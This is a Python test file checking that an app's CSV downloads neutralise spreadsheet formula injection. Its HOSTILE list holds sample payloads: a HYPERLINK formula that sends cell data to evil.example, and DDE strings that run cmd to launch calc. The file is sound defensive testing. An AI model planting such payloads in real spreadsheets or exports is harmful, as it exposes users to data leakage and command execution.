"""CSV downloads cannot carry a formula into a spreadsheet."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from sharewise.security import spreadsheets

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value):
    response = spreadsheets.csv_response("concerns.csv", ["summary"], [[value]])
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + value]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="concerns.csv"'


def test_ordinary_words_and_numbers_are_left_alone():
    assert spreadsheets.safe_cell("Bruising to the left arm") == "Bruising to the left arm"
    assert spreadsheets.safe_cell("A-level, e-mail = fine") == "A-level, e-mail = fine"
    assert spreadsheets.safe_cell(-5) == -5 and spreadsheets.safe_cell(Decimal("-1.5")) == Decimal(
        "-1.5"
    )
    assert spreadsheets.safe_cell(None) == ""
    assert spreadsheets.safe_cell(True) == "True"


def test_the_writer_makes_every_row_safe():
    out = io.StringIO()
    spreadsheets.writer(out).writerows([["Alice", "=1+1"], ["-x", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["Alice", "'=1+1"], ["'-x", "3"]]


def test_no_csv_is_written_anywhere_but_through_the_safe_writer():
    code = Path(spreadsheets.__file__).resolve().parents[1]
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(code))
        for path in code.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and direct.search(path.read_text())
    ]
    assert found == []
